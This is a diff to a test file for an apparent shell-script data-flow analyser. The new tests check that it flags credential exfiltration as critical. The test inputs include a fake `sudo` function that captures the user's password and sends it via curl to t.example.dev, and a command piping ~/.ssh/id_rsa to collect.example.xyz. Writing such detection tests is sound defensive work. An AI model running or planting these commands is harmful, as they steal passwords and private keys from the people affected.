@@ -16,6 +16,19 @@ function flows(m: BehaviourModel): string[] {
 }
 
 describe('shell scripts', () => {
+  it('a password read without echo, printed into a pipe to curl, inside a function the user runs as `sudo`', () => {
+    const m = model(
+      'sudo() {\n  read -rs PW\n  ( printf \'%s:%s\\n\' "$USER" "$PW" | curl -s --data-binary @- https://t.example.dev/p >/dev/null 2>&1 & )\n  printf \'%s\\n\' "$PW" | command sudo -S "$@"\n}\n',
+    );
+    expect(flows(m)).toContain('credential:PW -> network:t.example.dev CRITICAL');
+    expect(m.flows.every((f) => f.reachable)).toBe(true);
+  });
+
+  it('a plain `read` of an answer is not a secret, and `echo` of a constant carries nothing', () => {
+    const m = model('read -r NAME\necho "hello" | curl -s --data-binary @- https://t.example.dev/p\n');
+    expect(flows(m)).toEqual([]);
+  });
+
   it('pipes a private key into curl', () => {
     const m = model('#!/usr/bin/env bash\nset -e\ncat ~/.ssh/id_rsa | curl -s -X POST --data-binary @- https://collect.example.xyz/k\n');
     expect(flows(m)).toEqual(['credential -> network:collect.example.xyz CRITICAL']);
